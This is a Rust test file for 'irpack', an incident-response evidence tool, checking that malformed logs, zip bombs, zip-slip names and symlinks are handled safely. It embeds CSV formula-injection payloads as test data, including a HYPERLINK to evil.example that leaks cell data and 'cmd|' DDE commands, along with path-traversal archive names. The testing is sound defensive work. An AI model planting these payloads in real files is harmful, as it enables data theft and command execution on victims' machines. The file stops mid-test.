//! Hostile input and evidence safety (issue 9): whatever an attacker left in the logs, or an
//! analyst downloaded, irpack gives a clear message with a location, loses no record
//! (events + rejected = records), does not panic, stays within a memory bound, and never
//! writes to the evidence.
//!
//! Every input goes through the real registry (whatever parsers it holds) AND through small
//! probe sources built on the shared scanners, whose exact behaviour the tests can state.
//! Large inputs are generated into a tempdir at test time; nothing big is committed.

#[path = "hostile/cli.rs"]
mod cli;
#[path = "hostile/invariants.rs"]
mod invariants;
#[path = "hostile/probe.rs"]
mod probe;

use chrono::{DateTime, TimeZone, Utc};
use irpack::event::{Event, EventClass, Outcome, Provenance};
use irpack::evidence::custody::Actor;
use irpack::evidence::intake::{self, Intake, IntakeOptions, ItemKind, ZipLimits};
use irpack::pipeline;
use irpack::sources::{self, ParseContext, Parsed, Source};
use std::io::Write;
use std::path::{Path, PathBuf};

const PATH: &str = "evidence/hostile.log";

fn ctx() -> ParseContext {
    ParseContext {
        default_zone: Some(chrono_tz::UTC),
        ..ParseContext::default()
    }
}

/// Parse like the pipeline does and check every invariant; returns what came out.
fn parse_with(reg: &[Box<dyn Source>], bytes: &[u8], roundtrip: bool) -> Parsed {
    let sha = sources::sha256_hex(bytes);
    let mut p = sources::parse_bytes(reg, bytes, PATH, &sha, &ctx());
    pipeline::reject_unrepresentable_times(&mut p);
    if let Err(e) = invariants::check_parsed(bytes, PATH, &sha, &p) {
        panic!("format {:?}: {e}", p.format);
    }
    if roundtrip {
        if let Err(e) = invariants::check_timeline_roundtrip(&p.events) {
            panic!("format {:?}: {e}", p.format);
        }
    }
    p
}

/// Through the real registry (invariants only) and the probes (returned for exact checks).
fn hostile(bytes: &[u8]) -> Parsed {
    parse_with(&sources::registry(), bytes, true);
    parse_with(&probe::registry(), bytes, true)
}

fn line(t: &str) -> String {
    format!("{{\"time\":\"{t}\"}}")
}

fn messages(p: &Parsed) -> Vec<String> {
    p.rejected.iter().map(|r| r.to_string()).collect()
}

// ---------------------------------------------------------------- JSON, encodings, bytes

#[test]
fn truncated_json_keeps_earlier_records_and_says_where() {
    let t = format!(
        "[{},\n{},\n{{\"time\":\"2024-05-0",
        line("2024-05-01T10:00:00Z"),
        line("2024-05-01T10:00:01Z")
    );
    let p = hostile(t.as_bytes());
    assert_eq!((p.events.len(), p.rejected.len()), (2, 1));
    let m = &messages(&p)[0];
    assert!(m.starts_with("evidence/hostile.log:3: record 3:"), "{m}");
    assert!(m.contains("truncated"), "{m}");

    let t = format!(
        "{{\"value\":[{},{}",
        line("2024-05-01T10:00:00Z"),
        line("2024-05-01T10:00:01Z")
    );
    let p = hostile(t.as_bytes());
    assert_eq!(p.events.len(), 2, "{:?}", messages(&p));
    assert_eq!(p.rejected.len(), 1);
}

#[test]
fn garbled_json_lines_are_rejected_one_by_one() {
    let t = format!(
        "{}\nhello \u{1b}[31m world\n{{\"time\": }}\n{}\n{}}}}}]]]\n",
        line("2024-05-01T10:00:00Z"),
        line("2024-05-01T10:00:01Z"),
        line("2024-05-01T10:00:02Z")
    );
    let p = hostile(t.as_bytes());
    assert_eq!(p.events.len(), 3, "{:?}", messages(&p));
    let lines: Vec<u64> = p.rejected.iter().map(|r| r.line).collect();
    assert!(lines.contains(&2) && lines.contains(&3), "{lines:?}");
    assert!(messages(&p)
        .iter()
        .any(|m| m.starts_with("evidence/hostile.log:2:")));
    // Garbage in every shape the scanner might trip on.
    for g in [
        &b"["[..],
        b"{",
        b"\"",
        b"[,,,]",
        b"{\"a\":}",
        b"{\"a\"",
        b"[\"\\",
        b"{\"value\":[",
        b"{\"value\":[{\"x\":1},",
        b"}{][",
        b"\xff\xfe\xff",
        b"\x00\xff{[}]\"\\",
        b"[1,2,{\"time\":\"x\"}]",
        b"\xef\xbb\xbf\xef\xbb\xbf{}",
        b"{}\xef\xbb\xbf\xef\xbb",
    ] {
        hostile(g);
    }
}

fn utf16(s: &str, le: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    if bom {
        out.extend(if le { [0xFF, 0xFE] } else { [0xFE, 0xFF] });
    }
    for u in s.encode_utf16() {
        out.extend(if le { u.to_le_bytes() } else { u.to_be_bytes() });
    }
    out
}

#[test]
fn utf16_with_and_without_bom() {
    let text = format!(
        "{{\"time\":\"2024-05-01T10:00:00Z\",\"user\":\"jérôme\"}}\n{{\"time\":\"2024-05-01T10:00:01Z\",\"user\":\"😀\"}}\n{}\n",
        line("2024-05-01T10:00:02Z")
    );
    for (le, bom) in [(true, true), (true, false), (false, true), (false, false)] {
        let bytes = utf16(&text, le, bom);
        let p = hostile(&bytes);
        let want = if le { "utf-16le" } else { "utf-16be" };
        assert_eq!(p.decoded_from, Some(want), "le={le} bom={bom}");
        assert_eq!(p.events.len(), 3, "le={le} bom={bom}");
        let lines: Vec<u64> = p.events.iter().map(|e| e.line()).collect();
        assert_eq!(lines, vec![1, 2, 3]);
        // Cut mid code unit and mid surrogate pair: decoded with replacement, never a panic.
        for cut in [1, 3, bytes.len() - 1, bytes.len() / 2 + 1] {
            hostile(&bytes[..cut]);
        }
    }
}

#[test]
fn windows_1252_bytes_decode_and_trace_back() {
    let bytes = b"{\"time\":\"2024-05-01T10:00:00Z\",\"user\":\"J\xe9r\xf4me \x80\x9d\"}\n\
                  {\"time\":\"2024-05-01T10:00:01Z\",\"user\":\"\x81\x8d\x8f\x90\x9d\"}\n";
    let p = hostile(bytes);
    assert_eq!(p.decoded_from, Some("windows-1252"));
    assert_eq!(p.events.len(), 2);
}

#[test]
fn nul_bytes_anywhere() {
    let t = format!(
        "{}\n\0\0\0\n{{\"time\":\"2024-05-01T10:00:01Z\"\0}}\n\0{}\0\n",
        line("2024-05-01T10:00:00Z"),
        line("2024-05-01T10:00:02Z")
    );
    let p = hostile(t.as_bytes());
    assert_eq!(p.records(), p.events.len() as u64 + p.rejected.len() as u64);
    assert!(p.events.len() >= 2, "{:?}", messages(&p));
    hostile(&vec![0u8; 1 << 20]);
    hostile(b"time,note\n2024-05-01T10:00:00Z,a\0b\n\0\0\0\n");
    // NULs in every other byte for the first 512 bytes, then plain text: sniffed as UTF-16.
    let mut odd = utf16(&"x".repeat(300), true, false);
    odd.extend_from_slice(b"{\"time\":\"2024-05-01T10:00:00Z\"}\n");
    hostile(&odd);
}

// ---------------------------------------------------------------- CSV

#[test]
fn csv_embedded_newlines_and_unbalanced_quotes() {
    let t = "time,note\n2024-05-01T10:00:00Z,\"multi\nline \"\"quoted\"\"\"\n2024-05-01T10:00:01Z,plain\n";
    let p = hostile(t.as_bytes());
    assert_eq!(p.format, Some("probe_csv"));
    assert_eq!(p.events.len(), 2);
    assert_eq!(p.events[1].line(), 4);

    // An unterminated quote swallows every later line into one field: the row is rejected
    // with why, so the hidden rows are not silently read as a harmless note.
    let t = "time,note\n2024-05-01T10:00:00Z,ok\n2024-05-01T10:00:01Z,\"never closed\n2024-05-01T10:00:02Z,x\n2024-05-01T10:00:03Z,y\n";
    let p = hostile(t.as_bytes());
    assert_eq!(p.events.len(), 1, "{:?}", messages(&p));
    assert_eq!(p.rejected.len(), 1);
    let m = &messages(&p)[0];
    assert!(m.starts_with("evidence/hostile.log:3:"), "{m}");
    assert!(m.contains("quote"), "{m}");

    // A stray quote inside an unquoted last cell is text, not an open quote.
    let t = "time,note\n2024-05-01T10:00:00Z,5\" pipe";
    let p = hostile(t.as_bytes());
    assert_eq!(p.events.len(), 1, "{:?}", messages(&p));

    for g in [
        "time,note\n\"",
        "time,note\n\"\"\"",
        "time,note\r\n2024-05-01T10:00:00Z,\"a\"b\"\r\n",
        "time,note\n,,,,,,,,\n\n\n",
        "time,\"note\n",
    ] {
        hostile(g.as_bytes());
    }
}

#[test]
fn formula_cells_are_neutralised_in_the_csv_timeline() {
    let evil = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ];
    let events: Vec<Event> = evil
        .iter()
        .enumerate()
        .map(|(i, f)| {
            let mut e = ev(
                Utc.with_ymd_and_hms(2024, 5, 1, 10, 0, i as u32).unwrap(),
                i as u64 + 1,
            );
            e.user = Some((*f).into());
            e.descr_mut().user_agent = Some((*f).into());
            e.descr_mut().app = Some((*f).into());
            e.reason = Some((*f).into());
            e.descr_mut().operation = (*f).into();
            e.cold_mut().session_id = Some(f.to_string());
            e.cold_mut().evidence_path = Some(format!("evidence/{f}").into());
            e
        })
        .collect();
    let hashes: Vec<String> = events.iter().map(Event::hash).collect();
    let mut buf = Vec::new();
    irpack::timeline::export::write(
        irpack::timeline::export::Format::Csv,
        &events,
        &hashes,
        &mut buf,
    )
    .unwrap();
    assert_no_formula(&buf, &evil);

    // The same through the CLI: a case folder's timeline exported as CSV.
    let dir = tempfile::tempdir().unwrap();
    let tl = dir.path().join("case/timeline");
    std::fs::create_dir_all(&tl).unwrap();
    let f = std::fs::File::create(tl.join("timeline.jsonl")).unwrap();
    irpack::timeline::write_jsonl(&events, f).unwrap();
    let case = dir.path().join("case");
    let run = cli::irpack(
        &["timeline", case.to_str().unwrap(), "--format", "csv"],
        dir.path(),
    );
    assert!(run.ok(), "{}", run.stderr());
    assert_no_formula(&run.out.stdout, &evil);
}

fn assert_no_formula(csv_bytes: &[u8], evil: &[&str]) {
    let mut rdr = csv::ReaderBuilder::new().from_reader(csv_bytes);
    let mut cells = 0;
    for rec in rdr.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            assert!(!invariants::is_formula(cell), "formula cell {cell:?}");
        }
    }
    assert!(cells > 0);
    let text = String::from_utf8_lossy(csv_bytes);
    // Neutralised, not mangled: the original text follows the apostrophe.
    assert!(text.contains("'=HYPERLINK("), "{text}");
    for f in evil {
        assert!(
            text.contains(&format!("'{}", f.replace('"', "\"\""))),
            "{f:?} lost"
        );
    }
}

fn ev(time: DateTime<Utc>, record_no: u64) -> Event {
    Event::new(
        time,
        time.to_rfc3339(),
        "UTC",
        "probe",
        "probe",
        EventClass::Authentication,
        "sign_in",
        "probe",
        Outcome::Success,
        Provenance {
            evidence_sha256: "0".repeat(64).into(),
            evidence_path: PATH.into(),
            record_no,
            line: record_no,
            byte_offset: 0,
            byte_len: 0,
            raw_sha256: "0".repeat(64).into(),
            decoded_from: None,
        },
    )
}

// ---------------------------------------------------------------- timestamps, nesting

#[test]
fn timestamps_out_of_range_are_rejected_not_lost() {
    // What the shared grammars make of absurd stamps: whatever it is, the guard leaves only
    // times the timeline can write and read back.
    assert!(sources::timefmt::parse_epoch_any("1e30").is_none());
    assert!(sources::timefmt::parse_epoch_any(&"9".repeat(60)).is_none());
    let far = sources::timefmt::parse_epoch_any("1000000000000000000000")
        .expect("1e21 ns is a chrono time");
    let t = [
        "0000-01-01T00:00:00Z",
        "99999-01-01T00:00:00Z",
        "+99999-01-01T00:00:00Z",
        "-0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59.9999999Z",
        "1970-01-01T00:00:00Z",
        "2024-02-30T00:00:00Z",
        "2024-05-01T25:61:61Z",
    ]
    .iter()
    .map(|s| line(s))
    .collect::<Vec<_>>()
    .join("\n");
    let p = hostile(t.as_bytes());
    assert_eq!(p.records(), 8);

    let mut parsed = Parsed {
        format: Some("probe"),
        events: vec![
            ev(Utc.with_ymd_and_hms(-1, 1, 1, 0, 0, 0).unwrap(), 1),
            ev(Utc.with_ymd_and_hms(0, 1, 1, 0, 0, 0).unwrap(), 2),
            ev(far, 3),
            ev(Utc.with_ymd_and_hms(9999, 12, 31, 23, 59, 59).unwrap(), 4),
            ev(Utc.with_ymd_and_hms(10000, 1, 1, 0, 0, 0).unwrap(), 5),
            ev(DateTime::<Utc>::MAX_UTC, 6),
            ev(DateTime::<Utc>::MIN_UTC, 7),
        ],
        ..Parsed::default()
    };
    pipeline::reject_unrepresentable_times(&mut parsed);
    let kept: Vec<u64> = parsed
        .events
        .iter()
        .map(|e| e.provenance.record_no)
        .collect();
    let rejected: Vec<u64> = parsed.rejected.iter().map(|r| r.record_no).collect();
    assert_eq!(kept, vec![2, 4]);
    assert_eq!(rejected, vec![1, 3, 5, 6, 7]);
    assert!(
        parsed.rejected[1].reason.contains("year 33658"),
        "{:?}",
        parsed.rejected[1]
    );
    assert_eq!(parsed.rejected[1].line, 3);
    invariants::check_timeline_roundtrip(&parsed.events).unwrap();
}

#[test]
fn deeply_nested_json_million_levels() {
    let n = 1_000_000;
    let head = "{\"time\":\"2024-05-01T10:00:00Z\",\"x\":";
    let inputs = [
        "[".repeat(n),
        "{\"a\":".repeat(n),
        format!(
            "{head}{}{}}}\n{}",
            "[".repeat(n),
            "]".repeat(n),
            line("2024-05-01T10:00:01Z")
        ),
        format!("{head}{}", "{\"a\":[".repeat(n / 2)),
        "]".repeat(n),
        // A run of BOMs: the scanner treats a BOM as whitespace; it must loop, not recurse.
        "\u{FEFF}".repeat(n),
        format!("{}{}", "\u{FEFF}".repeat(n), line("2024-05-01T10:00:00Z")),
        format!(
            "{}{}",
            "\u{FEFF}".repeat(1000),
            line("2024-05-01T10:00:00Z")
        ),
    ];
    for (i, t) in inputs.iter().enumerate() {
        let p = hostile(t.as_bytes());
        if i == 2 {
            // The nested record is rejected (too deep to read), the one after it survives.
            assert_eq!(p.events.len(), 1, "{:?}", messages(&p));
            assert_eq!(p.rejected.len(), 1);
            assert_eq!(p.events[0].line(), 2);
        }
        if i == 7 {
            // (At i == 6 the 3 MB of BOMs fill the whole sniffing window: unrecognised, kept.)
            assert_eq!(p.events.len(), 1);
        }
    }
}

// ---------------------------------------------------------------- zips

struct Member<'a> {
    name: &'a str,
    data: &'a [u8],
    deflate: bool,
}

/// Build a zip with any member names, repeated or hostile ones included: written under
/// placeholder names of the same length, which are then patched to the wanted bytes.
fn zip_bytes(members: &[Member]) -> Vec<u8> {
    use zip::write::SimpleFileOptions;
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let mut patches = Vec::new();
    for (i, m) in members.iter().enumerate() {
        assert!(m.name.len() >= 4, "test names need 4+ bytes");
        // Distinct first two characters, so no placeholder is a prefix of another.
        let ph: String = format!(
            "\u{1}{}{}",
            char::from(b'A' + i as u8),
            "\u{2}".repeat(m.name.len() - 2)
        );
        let method = if m.deflate {
            zip::CompressionMethod::Deflated
        } else {
            zip::CompressionMethod::Stored
        };
        w.start_file(
            ph.clone(),
            SimpleFileOptions::default().compression_method(method),
        )
        .unwrap();
        w.write_all(m.data).unwrap();
        patches.push((ph, m.name));
    }
    let mut bytes = w.finish().unwrap().into_inner();
    for (ph, name) in patches {
        let (ph, name) = (ph.as_bytes(), name.as_bytes());
        let mut i = 0;
        while i + ph.len() <= bytes.len() {
            if &bytes[i..i + ph.len()] == ph {
                bytes[i..i + ph.len()].copy_from_slice(name);
                i += ph.len();
            } else {
                i += 1;
            }
        }
    }
    bytes
}

fn take(inputs: &[PathBuf], case: &Path, limits: ZipLimits) -> Intake {
    let actor = Actor {
        examiner: "t".into(),
        host: "h".into(),
        tool: "irpack test".into(),
    };
    intake::intake(&IntakeOptions {
        inputs,
        case_dir: case,
        acquired_at: "2024-06-01T00:00:00Z".into(),
        actor: &actor,
        zip_limits: limits,
        exclude: &[],
    })
}

/// Every item taken reads back (from the case folder) as the bytes that were hashed.
fn reads_back(case: &Path, got: &Intake) {
    for item in &got.items {
        let bytes =
            intake::read_item(case, item).unwrap_or_else(|e| panic!("{}: {e}", item.stored_path));
        assert_eq!(
            sources::sha256_hex(&bytes),
            item.sha256,
            "{} reads back as other bytes",
            item.stored_path
        );
    }
}

fn problems(got: &Intake) -> String {
    got.problems
        .iter()
        .map(|p| p.to_string())
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn zip_bombs_are_capped_by_ratio_and_total() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    let zeros = vec![0u8; 8 << 20];
    std::fs::write(
        input.join("bomb.zip"),
        zip_bytes(&[Member {
            name: "bomb.json",
            data: &zeros,
            deflate: true,
        }]),
    )
    .unwrap();

    // A member that lies: it declares 1000 bytes but inflates to 8 MiB (over 100:1).
    let mut liar = zip_bytes(&[Member {
        name: "liar.json",
        data: &zeros,
        deflate: true,
    }]);
    patch_sizes(&mut liar, 1000);
    std::fs::write(input.join("liar.zip"), liar).unwrap();

    // Incompressible members summing past the total budget.
    let noise: Vec<u8> = (0..(1u32 << 20))
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
        .collect();
    let many: Vec<Member> = ["m001.bin", "m002.bin", "m003.bin", "m004.bin", "m005.bin"]
        .iter()
        .map(|n| Member {
            name: n,
            data: &noise,
            deflate: false,
        })
        .collect();
    std::fs::write(input.join("many.zip"), zip_bytes(&many)).unwrap();

    let limits = ZipLimits {
        max_member_bytes: 64 << 20,
        max_total_bytes: (3 << 20) + 10,
        max_ratio: 100,
    };
    let case = dir.path().join("case");
    let got = take(std::slice::from_ref(&input), &case, limits.clone());
    let msg = problems(&got);
    let members: Vec<&str> = got
        .items
        .iter()
        .filter(|i| i.kind == ItemKind::ZipMember)
        .map(|i| i.stored_path.as_str())
        .collect();
    assert!(!members.iter().any(|m| m.contains("bomb")), "{members:?}");
    assert!(!members.iter().any(|m| m.contains("liar")), "{members:?}");
    assert!(
        msg.contains("bomb.zip") && msg.contains("zip bomb"),
        "{msg}"
    );
    assert!(
        msg.contains("liar.zip") && msg.contains("\"liar.json\""),
        "{msg}"
    );
    // The total budget is shared by every archive: 3 of 5 noise members fit.
    let many_taken = members.iter().filter(|m| m.contains("many.zip!/")).count();
    assert_eq!(many_taken, 3, "{members:?}\n{msg}");
    assert_eq!(msg.matches("byte budget").count(), 2, "{msg}");
    let total: u64 = got
        .items
        .iter()
        .filter(|i| i.kind == ItemKind::ZipMember)
        .map(|i| i.size)
        .sum();
    assert!(total <= limits.max_total_bytes);
    // The archives themselves are always kept whole and hashed.
    assert_eq!(
        got.items.iter().filter(|i| i.kind == ItemKind::Zip).count(),
        3
    );
    reads_back(&case, &got);
}

/// Overwrite every uncompressed-size field (local header offset 22, central offset 24).
fn patch_sizes(zip: &mut [u8], size: u32) {
    let mut i = 0;
    while i + 30 <= zip.len() {
        match &zip[i..i + 4] {
            b"PK\x03\x04" => zip[i + 22..i + 26].copy_from_slice(&size.to_le_bytes()),
            b"PK\x01\x02" => zip[i + 24..i + 28].copy_from_slice(&size.to_le_bytes()),
            _ => {}
        }
        i += 1;
    }
}

#[test]
fn zip_slip_names_stay_labels_inside_the_archive() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    let names = [
        "../../evil1.json",
        "/etc/evil2.json",
        "C:\\Windows\\evil3.json",
        "C:/evil4.json",
        "..\\..\\evil5.json",
        "./a/../../evil6.json",
        "....//....//evil7.json",
        "\\\\server\\share\\evil8.json",
    ];
    let data = line("2024-05-01T10:00:00Z");
    let members: Vec<Member> = names
        .iter()
        .map(|n| Member {
            name: n,
            data: data.as_bytes(),
            deflate: false,
        })
        .collect();
    std::fs::write(input.join("slip.zip"), zip_bytes(&members)).unwrap();
    let case = dir.path().join("case");
    let got = take(std::slice::from_ref(&input), &case, ZipLimits::default());
    let labels: Vec<&str> = got
        .items
        .iter()
        .filter(|i| i.kind == ItemKind::ZipMember)
        .map(|i| i.stored_path.split_once("slip.zip!/").unwrap().1)
        .collect();
    assert_eq!(labels.len(), names.len(), "{}", problems(&got));
    for l in &labels {
        assert!(
            !l.starts_with('/')
                && !l.contains('\\')
                && !l
                    .split('/')
                    .any(|p| p == ".." || p == "." || p.is_empty() || p.ends_with(':')),
            "label {l:?}"
        );
    }
    reads_back(&case, &got);
    // Members are read in place, never extracted: the only files anywhere are the input zip
    // and its copy in the case folder.
    let files: Vec<PathBuf> = walkdir::WalkDir::new(dir.path())
        .into_iter()
        .flatten()
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(dir.path()).unwrap().to_path_buf())
        .collect();
    assert_eq!(
        files,
        vec![
            PathBuf::from("case/evidence/in/slip.zip"),
            PathBuf::from("in/slip.zip")
        ]
    );
}

#[test]
fn duplicate_names_are_all_kept_and_read_back_right() {
    let dir = tempfile::tempdir().unwrap();
    // Two members with one name and different contents.
    let a = dir.path().join("a");
    std::fs::create_dir(&a).unwrap();
    std::fs::write(
        a.join("dup.zip"),
        zip_bytes(&[
            Member {
                name: "same.json",
                data: line("2024-05-01T10:00:00Z").as_bytes(),
                deflate: true,
            },
            Member {
                name: "same.json",
                data: line("2024-05-01T11:11:11Z").as_bytes(),
                deflate: true,
            },
        ]),
    )
    .unwrap();
    // A folder and a file with one name, and two folders with one name.
    let b = dir.path().join("b");
    std::fs::create_dir_all(b.join("logs")).unwrap();
    std::fs::write(b.join("logs/x.json"), "one").unwrap();
    let c = dir.path().join("c");
    std::fs::create_dir_all(&c).unwrap();
    std::fs::write(c.join("logs"), "a file named like the folder").unwrap();
    let d = dir.path().join("d");
    std::fs::create_dir_all(d.join("logs")).unwrap();
    std::fs::write(d.join("logs/x.json"), "two").unwrap();
    // A folder whose name looks like a member path separator.
    let e = dir.path().join("e!");
    std::fs::create_dir_all(&e).unwrap();
    std::fs::copy(a.join("dup.zip"), e.join("inner.zip")).unwrap();

    let inputs = vec![
        a.clone(),
        b.join("logs"),
        c.join("logs"),
        d.join("logs"),
        e.clone(),
        // The same file again, and a file inside a folder already given: kept once.
        b.join("logs"),
        d.join("logs/x.json"),
    ];
    let case = dir.path().join("case");
    let got = take(&inputs, &case, ZipLimits::default());
    let msg = problems(&got);
    let stored: Vec<&str> = got.items.iter().map(|i| i.stored_path.as_str()).collect();
    assert_eq!(
        stored,
        vec![
            "evidence/a/dup.zip",
            "evidence/a/dup.zip!/same.json",
            "evidence/e!/inner.zip",
            "evidence/e!/inner.zip!/same.json",
            "evidence/logs/x.json",
            "evidence/logs~2",
            "evidence/logs~3/x.json",
        ],
        "{msg}"
    );
    assert_eq!(msg.matches("already taken; kept once").count(), 2, "{msg}");
    // The zip reader keeps one member per name; the hidden copy is named, not silently lost.
    assert_eq!(
        msg.matches(
            "member name \"same.json\" appears 2 times; only one copy can be read, 1 not taken"
        )
        .count(),
        2,
        "{msg}"
    );
    reads_back(&case, &got);
}

// ---------------------------------------------------------------- folders

#[test]
fn symlinks_and_special_files_are_never_followed() {
    use std::os::unix::fs::symlink;
    let dir = tempfile::tempdir().unwrap();
    let outside = dir.path().join("outside");
    std::fs::create_dir_all(outside.join("sub")).unwrap();
    std::fs::write(outside.join("secret.txt"), "not evidence").unwrap();
    std::fs::write(outside.join("sub/deep.txt"), "not evidence either").unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    std::fs::write(input.join("real.json"), line("2024-05-01T10:00:00Z")).unwrap();
    symlink(outside.join("secret.txt"), input.join("link-file")).unwrap();
    symlink(&outside, input.join("link-dir")).unwrap();
    symlink(input.join("loop"), input.join("loop")).unwrap();
    symlink("/nonexistent/x", input.join("dangling")).unwrap();
    let fifo = input.join("fifo");
    let made_fifo = std::process::Command::new("mkfifo")
        .arg(&fifo)
        .status()
        .map(|s| s.success())
        .unwrap_or(false);
    let case = dir.path().join("case");
    let got = take(
        &[input.clone(), input.join("link-file")],
        &case,
        ZipLimits::default(),
    );
    let msg = problems(&got);
    let stored: Vec<&str> = got.items.iter().map(|i| i.stored_path.as_str()).collect();
    assert_eq!(stored, vec!["evidence/in/real.json"], "{msg}");
    for l in ["link-file", "link-dir", "loop", "dangling"] {
        assert!(
            msg.contains(&format!("in/{l}: symbolic link not followed")),
            "{l}: {msg}"
        );
    }
    assert!(
        msg.contains("link-file: not a regular file or folder"),
        "{msg}"
    );
    if made_fifo {
        assert!(msg.contains("fifo: not a regular file"), "{msg}");
    }
    let secret = sources::sha256_hex(b"not evidence");
    assert!(got.items.iter().all(|i| i.sha256 != secret));
    let copied: Vec<PathBuf> = walkdir::WalkDir::new(&case)
        .into_iter()
        .flatten()
        .filter(|e| !e.file_type().is_dir())
        .map(|e| e.path().to_path_buf())
        .collect();
    assert_eq!(copied, vec![case.join("evidence/in/real.json")]);
}

// ---------------------------------------------------------------- the CLI, big inputs, RSS

fn collected(case: &Path) -> serde_json::Value {
    serde_json::from_str(&std::fs::read_to_string(case.join("collected.json")).unwrap()).unwrap()
}

/// records = events + rejected for every file, and the rejected list agrees.
fn accounting_holds(c: &serde_json::Value) {
    let rejected = c["rejected"].as_array().unwrap();
    for f in c["files"].as_array().unwrap() {
        let n = |k: &str| f[k].as_u64().unwrap();
        assert_eq!(n("records"), n("events") + n("rejected"), "{f}");
        let listed = rejected
            .iter()
            .filter(|r| r["evidence_path"] == f["stored_path"])
            .count() as u64;
        assert_eq!(listed, n("rejected"), "{f}");
    }
}

const GIB: u64 = 1 << 20; // in KiB

fn signin(i: usize) -> String {
    format!(
        "{{\"createdDateTime\":\"2024-05-01T{:02}:{:02}:{:02}Z\",\"userPrincipalName\":\"u{}@contoso.com\",\"ipAddress\":\"203.0.113.{}\",\"isInteractive\":true,\"status\":{{\"errorCode\":0}}}}",
        (i / 3600) % 24,
        (i / 60) % 60,
        i % 60,
        i % 50,
        i % 250
    )
}

#[test]
fn hundred_megabyte_single_line_within_memory_bound() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    // One sign-in-shaped record whose user agent is 100 MB, on one line, no newline at all.
    let mut rec = signin(0).into_bytes();
    rec.truncate(rec.len() - 1);
    rec.extend_from_slice(b",\"userAgent\":\"");
    rec.resize(rec.len() + (100 << 20), b'A');
    rec.extend_from_slice(b"\"}");
    std::fs::write(input.join("one-line.json"), &rec).unwrap();
    // And 100 MB of text that is no format at all, also on one line.
    let mut junk = vec![b'x'; 100 << 20];
    junk[0] = b'#';
    std::fs::write(input.join("junk.log"), &junk).unwrap();
    drop((rec, junk));

    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
            "--json",
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}\n{}", run.stdout(), run.stderr());
    let c = collected(&case);
    accounting_holds(&c);
    assert_eq!(c["files"].as_array().unwrap().len(), 2);
    report_rss("100 MB single line (2 files, 200 MB)", &run);
}

/// Slow in a debug build (about 4 minutes on 2 shared cores with every parser in); run with
/// `cargo test --release --test hostile -- --ignored` (about 70 s). Measured with the merged
/// parsers: peak RSS 3.08 GiB, 2.5 GiB once `collect` moved instead of copying the events —
/// still over this bound; the peak is in `collect` and the scale issue owns bringing it down.
#[test]
#[ignore = "slow (minutes in a debug build); run in the separate hostile-scale CI step"]
fn million_tiny_records_within_memory_bound() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir(&input).unwrap();
    let n = 1_000_000;
    let mut f = std::io::BufWriter::new(std::fs::File::create(input.join("signins.json")).unwrap());
    for i in 0..n {
        writeln!(f, "{}", signin(i)).unwrap();
    }
    f.into_inner().unwrap().sync_all().unwrap();
    let case = dir.path().join("case");
    let run = cli::irpack(
        &[
            "run",
            input.to_str().unwrap(),
            "--out",
            case.to_str().unwrap(),
            "--json",
        ],
        dir.path(),
    );
    assert!(run.ok(), "{}\n{}", run.stdout(), run.stderr());
    let c = collected(&case);
    accounting_holds(&c);
    let file = &c["files"][0];
    if file["format"].is_string() {
        assert_eq!(file["records"].as_u64(), Some(n as u64), "{file}");
    } else {
        eprintln!("NOTE: no parser recognised the sign-in lines yet; intake and decoding only");
    }
    report_rss("1,000,000 tiny records", &run);
}

/// The scanners and provenance on a million records, in process, with exact counts.
#[test]
fn million_tiny_records_through_the_scanner() {
    let mut t = String::with_capacity(40 << 20);
    for i in 0..1_000_000u32 {
        if i % 100_000 == 99_999 {
            t.push_str("{\"garbled\n");
        } else {
            t.push_str("{\"time\":\"2024-05-01T10:00:00Z\"}\n");
        }
    }
    let p = parse_with(&probe::registry(), t.as_bytes(), false);
    assert_eq!(p.records(), 1_000_000);
    assert_eq!(p.rejected.len(), 10);
    assert_eq!(p.rejected[0].line, 100_000);
}

fn report_rss(what: &str, run: &cli::Run) {
    let kib = run.peak_kib.expect("peak RSS measured");
    eprintln!(
        "peak RSS of `irpack run` on {what}: {kib} KiB ({:.1} MiB)",
        kib as f64 / 1024.0
    );
    assert!(kib < 2 * GIB, "{what}: peak RSS {kib} KiB over 2 GiB");
}

// ---------------------------------------------------------------- evidence safety (CLI)

fn fingerprint(root: &Path) -> Vec<(PathBuf, String, u32, std::time::SystemTime)> {
    use std::os::unix::fs::PermissionsExt;
    walkdir::WalkDir::new(root)
        .sort_by_file_name()
        .into_iter()
        .flatten()
        .map(|e| {
            let m = e.metadata().unwrap();
            let sha = if m.is_file() {
                sources::sha256_hex(&std::fs::read(e.path()).unwrap())
            } else {
                String::new()
            };
            (
                e.path().to_path_buf(),
                sha,
                m.permissions().mode(),
                m.modified().unwrap(),
            )
        })
        .collect()
}

fn set_modes(root: &Path, file: u32, dir: u32) {
    use std::os::unix::fs::PermissionsExt;
    // Deepest first, so a read-only folder does not stop the walk into it.
    let entries: Vec<_> = walkdir::WalkDir::new(root)
        .contents_first(true)
        .into_iter()
        .flatten()
        .collect();
    for e in entries {
        let mode = if e.file_type().is_dir() { dir } else { file };
        std::fs::set_permissions(e.path(), std::fs::Permissions::from_mode(mode)).unwrap();
    }
}

#[test]
fn read_only_inputs_are_never_modified() {
    let dir = tempfile::tempdir().unwrap();
    let input = dir.path().join("in");
    std::fs::create_dir_all(input.join("sub")).unwrap();
    std::fs::write(input.join("a.json"), line("2024-05-01T10:00:00Z")).unwrap();
    std::fs::write(
